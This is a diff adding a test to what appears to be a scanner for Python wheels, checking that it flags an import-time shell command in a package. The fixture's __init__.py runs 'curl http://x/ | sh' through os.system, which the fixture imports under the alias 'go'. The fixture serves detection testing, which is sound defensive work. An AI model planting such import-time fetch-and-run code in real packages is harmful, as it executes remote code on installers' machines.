@@ -162,6 +162,19 @@ def test_the_code_of_each_source_of_a_module_is_followed(tmp_path: Path) -> None
     assert inside.sources.unreached == 0
 
 
+def test_a_package_imports_its_own_modules_beside_a_module_of_its_name(tmp_path: Path) -> None:
+    files = {
+        "a.py": b"import os\n",
+        "a/__init__.py": b"from .data import go\ngo('curl http://x/ | sh')\n",
+        "a/data.py": b"from os import system as go\n",
+    }
+    path = build_wheel(tmp_path, "a", "1", files=files)
+    _, inside = look_inside(path, path.name)
+    assert [(one.kind, one.path, one.reach) for one in inside.behaviours if one.kind == "command"] == [
+        ("command", "a/__init__.py", "import")
+    ]
+
+
 def test_a_source_that_is_too_long_to_parse_is_named(tmp_path: Path) -> None:
     text = b"# no\n" * (MAX_READ_BYTES // 5 + 1) + b"import os\nos.system('a')\n"
     path = build_wheel(tmp_path, "odd", "1", files={"odd/a.py": text})
